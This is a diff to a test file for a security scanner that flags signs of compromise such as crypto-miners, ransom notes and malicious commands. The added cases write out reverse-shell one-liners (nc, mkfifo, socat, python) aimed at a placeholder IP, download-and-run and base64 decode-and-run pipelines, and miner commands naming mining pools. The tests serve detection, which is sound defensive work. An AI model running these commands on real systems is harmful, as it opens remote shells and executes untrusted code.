@@ -1,5 +1,5 @@
 import pytest
-from hypothesis import HealthCheck, given, settings
+from hypothesis import given
 from hypothesis import strategies as st
 
 from scanner.findings import compromise
@@ -42,12 +42,19 @@ def test_the_command_of_the_incident(command):
         ("command", "./xmrig -o pool.example:3333", "miner-name"),
         ("command", "/tmp/kdevtmpfsi", "malware-name"),
         ("image", "attacker/xmrig:6.21", "miner-name"),
-        ("command", "/usr/bin/minerd -a cryptonight", "miner-name"),
+        ("command", "/usr/bin/minerd -o pool", "miner-name"),
         ("name", "kinsing", "malware-name"),
         ("command", "x -o stratum+tcp://1.2.3.4:3333 -u wallet", "mining-pool-protocol"),
         ("command", "x --donate-level 1", "miner-option"),
         ("command", "x -o gulf.moneroocean.stream:10128", "mining-pool"),
         ("command", "x -o pool.supportxmr.com:443", "mining-pool"),
+        ("command", "x -o a.example:443 -a rx/0", "miner-algorithm"),
+        ("command", "x --randomx-mode=fast", "miner-option"),
+        ("command", "/opt/lolMiner --user x", "miner-name"),
+        ("command", "nc 198.51.100.7 4444 -e /bin/bash", "reverse-shell-started"),
+        ("command", "rm /t/f;mkfifo /t/f;cat /t/f|/bin/sh -i 2>&1|nc 198.51.100.7 1 >/t/f", "reverse-shell-started"),
+        ("command", "socat exec:'bash -li',pty tcp:198.51.100.7:1", "reverse-shell-started"),
+        ("command", "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'", "reverse-shell-started"),
         ("key", "crackit", "redis-key-crackit"),
         ("name", "READ_ME_TO_RECOVER_YOUR_DATA", "ransom-note-name"),
         ("name", "read__me_to_recover_your_data", "ransom-note-name"),
@@ -81,6 +88,11 @@ def test_one_published_name_is_enough(kind, value, expected):
         ("command", "npm run nanopool-dashboard"),
         ("command", "curl -fsSL https://get.example/install.sh | sh"),
         ("command", "python determinerd.py"),
+        ("command", "ssh-keygen -a 100 -t ed25519"),
+        ("command", "nc -zv db 5432 && sh run.sh"),
+        ("command", "sync -e /bin/sh"),
+        ("command", "openssl enc -d -in a | gzip"),
+        ("command", "sha384sum 4" + "a1b2c3d4e5f60718" * 6),
         ("command", "/usr/bin/mysysupdate"),
         ("command", "pingrok"),
         ("name", "readme"),
@@ -120,6 +132,37 @@ def test_two_independent_signs_count(traces, expected):
     assert ids(**traces) == expected
 
 
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -s http://a/x | /usr/bin/env bash",
+        "wget -qO- a/x | sudo -E bash -",
+        "bash <(curl -s a/x)",
+        'sh -c "$(wget -qO- a/x)"',
+        "curl -o /tmp/x http://a/x && chmod +x /tmp/x && /tmp/x",
+        "curl http://a/x.py | python3",
+        "python3 -c 'exec(urllib.request.urlopen(\"http://a/x\").read())'",
+    ],
+)
+def test_a_download_that_is_run_has_many_forms(command):
+    assert [found.id for found in compromise.candidates({"command": (command,)})] == ["download-and-run"]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo aWQ= | base64 --decode | /bin/bash",
+        "base64 -d <<< aWQ= | sh",
+        'eval "$(echo aWQ= | base64 -d)"',
+        'python3 -c \'exec(__import__("base64").b64decode("aWQ="))\'',
+        "php -r 'eval(base64_decode($a));'",
+        "openssl base64 -d -in a | sh",
+    ],
+)
+def test_what_is_decoded_and_run_has_many_forms(command):
+    assert [found.id for found in compromise.candidates({"command": (command,)})] == ["decode-and-run"]
+
+
 def test_the_same_sign_twice_is_one_sign():
     assert ids(command=("curl http://a/a | sh", "wget -q -O- http://b/b | bash")) == []
 
@@ -143,13 +186,3 @@ def test_details_are_clean():
 )
 def test_any_text_is_survived(traces):
     assert isinstance(indicators(traces), tuple)
-
-
-@pytest.mark.parametrize("pattern", compromise._PARTS, ids=lambda pattern: pattern.id)
-@given(data=st.data())
-@settings(max_examples=30, suppress_health_check=list(HealthCheck))
-def test_what_a_pattern_of_commands_fits_is_never_passed_over(pattern, data):
-    if "command" not in pattern.kinds:
-        return
-    text = data.draw(st.from_regex(pattern.expression))
-    assert compromise._near(text)
